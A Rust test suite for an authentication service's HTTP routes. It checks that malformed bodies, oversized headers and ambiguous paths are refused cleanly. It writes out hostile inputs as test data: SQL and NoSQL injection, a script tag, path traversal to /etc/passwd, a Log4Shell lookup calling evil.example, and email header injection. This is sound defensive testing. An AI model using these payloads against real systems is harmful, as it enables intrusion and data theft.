//! Input that no client of good will sends, at every route that reads a body, with a live token.

use http::Method;
use serde_json::json;

use super::{
    CHANGE_PASSWORD, CONFIRM_FORGOT, DEVICE, FORGOT, LOGIN, LOGOUT, Login, REFRESH, SHARING, USER,
    ann, envelope, query, refusal,
};
use crate::harness::{Answer, Platform, Request, are_processes, is_read_alike};
use crate::user_service::expect_nothing_done;

/// The routes that read a body.
const TARGETS: [(Method, &str); 8] = [
    (Method::POST, USER),
    (Method::PUT, USER),
    (Method::PUT, CHANGE_PASSWORD),
    (Method::PUT, FORGOT),
    (Method::POST, CONFIRM_FORGOT),
    (Method::POST, REFRESH),
    (Method::POST, LOGOUT),
    (Method::PUT, LOGIN),
];

async fn start() -> (Platform, Login) {
    let platform = Platform::with(&[("LIMITS", "off")]).await;
    let login = ann(&platform).await;
    platform.deliver().await;
    (platform, login)
}

fn request(platform: &Platform, (method, path): &(Method, &str), login: &Login) -> Request {
    let request = platform.request(method.clone(), path).bearer(&login.access);
    request.header("content-type", "application/json")
}

fn expect_refusal(answer: &Answer, status: u16, what: &str) {
    assert_eq!(answer.status, status, "{what}: {}", answer.whole());
    assert_eq!(
        answer.header("content-type"),
        Some("application/json"),
        "{what}"
    );
    let body = answer.json();
    let message = body["message"].as_str().expect("a reason");
    let code = body["data"]["code"].as_str().expect("a code");
    assert_eq!(answer.whole(), refusal(status, message, code), "{what}");
    assert!(
        !message.is_empty() && message.len() < 80,
        "{what}: {message}"
    );
    for leak in [
        "serde",
        "line 1",
        "column 1",
        "panicked",
        "src/",
        "gatehouse-",
    ] {
        assert!(!answer.body.contains(leak), "{what}: {}", answer.whole());
    }
}

#[tokio::test]
async fn what_is_no_plain_json_object_is_refused_everywhere() {
    let (platform, login) = start().await;
    let before = platform.dump().await;
    for target in TARGETS {
        let start = format!(
            "{{\"projectId\":\"{SHARING}\",\"strategy\":\"email\",\"provider\":\"awsCognito\""
        );
        let with = |rest: &str| format!("{start},{rest}}}").into_bytes();
        let nested = |levels: usize| {
            with(&format!(
                "\"x\":{}{}",
                "[".repeat(levels),
                "]".repeat(levels)
            ))
        };
        let mut invalid_utf8 = with("\"x\":\"?\"");
        let mark = invalid_utf8.iter().position(|byte| *byte == b'?');
        invalid_utf8[mark.expect("the mark")] = 0xff;
        for (what, body) in [
            ("no JSON", b"projectId=x&strategy=email".to_vec()),
            ("half JSON", start.clone().into_bytes()),
            ("two documents", b"{} {}".to_vec()),
            ("an array", b"[]".to_vec()),
            ("a text", b"\"text\"".to_vec()),
            ("null", b"null".to_vec()),
            ("white space", b"  \n".to_vec()),
            ("a byte order mark", b"\xef\xbb\xbf{}".to_vec()),
            (
                "an object as project",
                b"{\"projectId\":{\"$gt\":\"\"}}".to_vec(),
            ),
            ("a key twice", with("\"provider\":\"awsCognito\"")),
            ("a key twice inside", with("\"data\":{\"a\":1,\"a\":2}")),
            ("NUL in a value", with("\"x\":\"a\\u0000b\"")),
            ("NUL in a key", with("\"a\\u0000\":1")),
            ("NUL inside", with("\"data\":{\"x\":\"a\\u0000b\"}")),
            ("invalid UTF-8", invalid_utf8),
            ("a lone surrogate", with("\"x\":\"\\ud800\"")),
            ("a raw control character", with("\"x\":\"a\nb\"")),
            ("too deep", nested(33)),
            ("far too deep", nested(30_000)),
            ("too large a number", with("\"x\":1e999")),
        ] {
            let answer = request(&platform, &target, &login).body(body).send().await;
            expect_refusal(&answer, 400, &format!("{target:?} {what}"));
        }
        let empty = request(&platform, &target, &login).send().await;
        expect_refusal(&empty, 400, &format!("{target:?} no body"));
        let form = platform
            .request(target.0.clone(), target.1)
            .bearer(&login.access);
        let form = form.bare_form(&[("projectId", SHARING)]).send().await;
        expect_refusal(&form, 415, &format!("{target:?} a form"));
    }
    expect_nothing_done(&platform, &before, "hostile JSON").await;
}

#[tokio::test]
async fn data_of_a_wrong_type_is_refused_everywhere() {
    let (platform, login) = start().await;
    let before = platform.dump().await;
    for target in TARGETS
        .iter()
        .filter(|target| ![REFRESH, LOGOUT].contains(&target.1))
    {
        for data in [json!("x"), json!([]), json!(7), json!(true), json!([{}])] {
            let body = envelope(SHARING, "awsCognito", json!({ "data": data }));
            let answer = request(&platform, target, &login).body(body.to_string());
            let answer = answer.send().await;
            expect_refusal(&answer, 400, &format!("{target:?} {data}"));
            assert_eq!(answer.json()["message"], "data is not valid", "{target:?}");
        }
    }
    expect_nothing_done(&platform, &before, "wrong data").await;
}

#[tokio::test]
async fn a_body_over_64_kb_is_refused_everywhere() {
    let (platform, login) = start().await;
    let before = platform.dump().await;
    for target in TARGETS {
        let mut body = b"{}".to_vec();
        body.resize(65_537, b' ');
        let large = request(&platform, &target, &login).body(body.clone());
        expect_refusal(&large.send().await, 413, target.1);
        body.truncate(65_536);
        let fits = request(&platform, &target, &login).body(body);
        expect_refusal(&fits.send().await, 400, target.1);
        if !are_processes() {
            let announced = request(&platform, &target, &login).header("content-length", "65537");
            expect_refusal(&announced.body("{}").send().await, 413, target.1);
        }
    }
    expect_nothing_done(&platform, &before, "large bodies").await;
}

#[tokio::test]
async fn a_header_over_8_kb_and_a_token_over_4_kb_are_refused() {
    let (platform, login) = start().await;
    let before = platform.dump().await;
    let long = "x".repeat(9 * 1024);
    for target in TARGETS {
        let answer = request(&platform, &target, &login).header("x-anything", &long);
        let answer = answer.body("{}").send().await;
        expect_refusal(&answer, 400, target.1);
    }
    let path = format!("{USER}?{}", query(SHARING, "awsCognito"));
    for token in [
        "x".repeat(5 * 1024),
        format!("{}{}", login.access, "x".repeat(4096)),
    ] {
        let answer = platform.get(&path).bearer(&token).send().await;
        expect_refusal(&answer, 401, "a long token");
    }
    expect_nothing_done(&platform, &before, "long headers").await;
}

#[tokio::test]
async fn fields_of_any_text_are_answered_in_the_dialects_words() {
    let (platform, login) = start().await;
    let texts = [
        "' OR 1=1 --",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "ann@example.com\r\nBcc: evil@example.com",
        "\u{202e}moc.elpmaxe@nna",
        "ann@example.com, ben@example.com",
        "🦊",
        "%00%0d%0a",
    ];
    for target in TARGETS.iter().filter(|target| target.1 != LOGOUT) {
        for text in texts {
            let data = json!({
                "email": text, "password": text, "previousPassword": text, "deviceId": text,
                "confirmationCode": text, "otp": text,
            });
            let beside = json!({ "data": data, "deviceId": text, "refreshToken": text });
            let body = envelope(SHARING, "awsCognito", beside);
            let answer = request(&platform, target, &login).body(body.to_string());
            let answer = answer.send().await;
            let what = format!("{target:?} {text:?}");
            assert!(
                [400, 401].contains(&answer.status),
                "{what}: {}",
                answer.whole()
            );
            expect_refusal(&answer, answer.status, &what);
            assert!(!answer.body.contains(text), "{what}");
        }
    }
    assert_eq!(login.status(&platform).await, 200);
    assert_eq!(platform.deliver().await.len(), 0);
}

#[tokio::test]
async fn a_path_or_a_query_that_can_be_read_in_two_ways_is_refused() {
    let (platform, login) = start().await;
    let query = query(SHARING, "awsCognito");
    for path in [
        "/identify/v1/./user",
        "/identify/v1/x/../user",
        "/identify/v1/%2e%2e/v1/user",
        "/identify//v1/user",
        "/identify/v1/user%2f",
        "/identify/v1/%75ser%00",
        "/identify/v1/user%5c",
        "/identify/v1/user/",
    ] {
        if !is_read_alike(path) {
            continue;
        }
        let answer = platform.get(&format!("{path}?{query}"));
        let answer = answer.bearer(&login.access).send().await;
        assert!(
            [400, 404].contains(&answer.status),
            "{path}: {}",
            answer.whole()
        );
        expect_refusal(&answer, answer.status, path);
    }
    for rest in [
        "&deviceId=%ff".to_owned(),
        "&deviceId=%00".to_owned(),
        format!("&deviceId={DEVICE}&deviceId={DEVICE}"),
    ] {
        let path = format!("{}?{query}{rest}", super::CHECK);
        let answer = platform.get(&path).bearer(&login.access).send().await;
        expect_refusal(&answer, 400, &rest);
    }
}
